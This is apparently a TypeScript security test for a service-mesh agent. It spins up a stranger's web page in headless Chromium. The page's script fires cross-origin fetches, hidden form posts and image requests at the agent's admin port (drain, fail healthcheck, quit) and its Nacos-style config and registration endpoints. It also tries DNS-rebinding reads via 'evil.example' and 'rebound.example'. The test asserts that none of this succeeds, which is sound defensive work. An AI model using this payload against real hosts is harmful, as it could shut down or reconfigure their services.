/**
 * A page of a stranger in a browser on the host: what it can send to the ports of the agent, and what a name that it
 * rebinds can read.
 */
import { spawn, type ChildProcess } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { once } from 'node:events'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { AddressInfo } from 'node:net'
import { expect } from 'chai'
import { startEmbeddedRegistry, type EmbeddedRegistry } from '../../../registry-adapters/nacos/embedded/embedded.ts'
import { call, Mesh, until, type DemoHost } from '../../support/mesh/mesh.ts'

const browser = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find((file) =>
  existsSync(file),
)

describe('a web page of a stranger in a browser on the host', function () {
  this.timeout(120_000)
  let registry: EmbeddedRegistry
  let mesh: Mesh
  let host: DemoHost
  let address: string
  let page: Server
  let folder: string
  let chromium: ChildProcess | undefined
  /** What the page says of its attempts. */
  let told: Promise<string>
  let tell: (text: string) => void

  before(async function () {
    if (browser === undefined) {
      console.log('skipped: there is no chromium (apt-get install chromium)')
      this.skip()
    }
    folder = mkdtempSync(join(tmpdir(), 'hostmesh-browser-'))
    registry = await startEmbeddedRegistry({ mergeWindowMs: 50 })
    mesh = await Mesh.open([{ name: 'main', type: 'nacos', servers: [registry.address] }])
    host = mesh.host('host')
    address = host.options.address
    Object.assign(host.options, {
      extra: {
        nacosFace: {
          enabled: true,
          address,
          httpPort: 8848,
          grpcPort: 9848,
          configReads: 'any',
          configWrites: 'granted',
        },
      },
    })
    host.start()
    await host.ready()
    ;({ promise: told, resolve: tell } = Promise.withResolvers<string>())
    page = createServer((incoming, outgoing) => {
      let text = ''
      incoming.on('data', (bytes: Buffer) => (text += bytes.toString()))
      incoming.on('end', () => {
        if (incoming.url === '/told') tell(text)
        outgoing.setHeader('content-type', 'text/html')
        outgoing.end(incoming.url === '/' ? attack() : '')
      })
    }).listen(0, '127.0.0.1')
    await once(page, 'listening')
  })
  after(async () => {
    chromium?.kill('SIGKILL')
    page?.close()
    await mesh?.close()
    await registry?.close()
    if (folder !== undefined) rmSync(folder, { recursive: true, force: true, maxRetries: 5 })
  })
  afterEach(function () {
    if (this.currentTest?.state === 'failed') console.log(mesh?.report())
  })

  /** Everything that a page can send without being asked, and what it can read of the answers. */
  function attack(): string {
    const admin = `http://${address}:15000`
    const face = `http://${address}:8848/nacos`
    const sends = [
      ['POST', `${admin}/drain_listeners`],
      ['POST', `${admin}/healthcheck/fail`],
      ['POST', `${admin}/quitquitquit`],
      ['POST', `${face}/v1/cs/configs?dataId=evil&group=DEFAULT_GROUP&content=evil`],
      ['POST', `${face}/v1/ns/instance?serviceName=evil&ip=${address}&port=9999`],
      ['GET', `${face}/v1/cs/configs?dataId=evil&group=DEFAULT_GROUP`],
      ['POST', `http://${address}:9848/Request/request`],
    ]
    return `<html><body><script>
      const told = []
      const note = (what, result) => told.push(what + ' -> ' + result)
      const form = (url) => new Promise((resolve) => {
        const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame)
        const made = document.createElement('form'); made.method = 'POST'; made.action = url; made.target = frame.name; document.body.append(made)
        frame.onload = () => resolve(); setTimeout(resolve, 3000); made.submit()
      })
      ;(async () => {
        for (const [method, url] of ${JSON.stringify(sends)}) {
          for (const mode of ['no-cors', 'cors'])
            await fetch(url, { method, mode, credentials: 'include' }).then(async (r) => note(mode + ' ' + url, r.type + ' ' + (await r.text())), (e) => note(mode + ' ' + url, e.message))
          if (method === 'POST') await form(url)
          await new Promise((resolve) => { const image = new Image(); image.onload = image.onerror = resolve; setTimeout(resolve, 1000); image.src = url })
        }
        for (const url of ['http://rebound.example:15000/config_dump', 'http://rebound.example:8848/nacos/v1/cs/configs?dataId=evil&group=DEFAULT_GROUP'])
          await fetch(url, { mode: 'no-cors' }).then((r) => note(url, r.type), (e) => note(url, e.message))
        await fetch('/told', { method: 'POST', body: told.join('\\n') })
      })()
    </script></body></html>`
  }

  const flags = (): string[] => [
    '--headless=new',
    '--no-sandbox',
    '--disable-gpu',
    '--disable-dev-shm-usage',
    '--disable-extensions',
    '--disable-features=LocalNetworkAccessChecks',
    `--user-data-dir=${folder}`,
    `--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example ${address}`,
  ]

  it('changes nothing and reads nothing', async () => {
    const { port } = page.address() as AddressInfo
    chromium = spawn(browser!, [...flags(), `http://evil.example:${port}/`], {
      stdio: 'ignore',
      env: { ...process.env, HOME: folder },
    })
    const text = await told
    chromium.kill('SIGKILL')
    await once(chromium, 'close')
    for (const line of text.split('\n')) expect(line, text).to.match(/ -> (?:opaque ?|Failed to fetch)$/)
    const ready = await host.admin.get('/ready')
    expect(ready.status, ready.text).to.equal(200)
    const { text: stats } = await host.admin.get('/stats?filter=nacos_face_requests')
    const denied = /nacos_face_requests_total\{[^}]*result=denied[^}]*\}: (\d+)/.exec(stats)
    expect(Number(denied?.[1]), `the browser did ask: ${stats}`).to.be.greaterThan(5)
    expect(stats).to.not.match(/result=ok/)
    const list = await call(address, 8848, {}, '/nacos/v1/ns/instance/list?serviceName=evil')
    expect((JSON.parse(list.body) as { hosts: unknown[] }).hosts).to.deep.equal([])
    const found = await fetch(`http://${registry.address}/nacos/v1/cs/configs?dataId=evil&group=DEFAULT_GROUP`)
    expect(found.status).to.equal(404)
  })

  it('reads nothing by a name that it has rebound to the host, also as the page itself', async () => {
    for (const [port, path] of [
      [15_000, '/config_dump'],
      [8848, '/nacos/v1/console/server/state'],
    ] as const) {
      const child = spawn(browser!, [...flags(), '--dump-dom', `http://rebound.example:${port}${path}`], {
        stdio: ['ignore', 'pipe', 'ignore'],
        env: { ...process.env, HOME: folder },
      })
      let text = ''
      child.stdout.on('data', (bytes: Buffer) => (text += bytes.toString()))
      await once(child, 'close')
      expect(text, `${port}`).to.contain('is no address')
      expect(text).to.not.contain('"snapshot"')
    }
    await until(20_000, 'still there', async () => (await host.admin.get('/ready')).status === 200)
  })
})
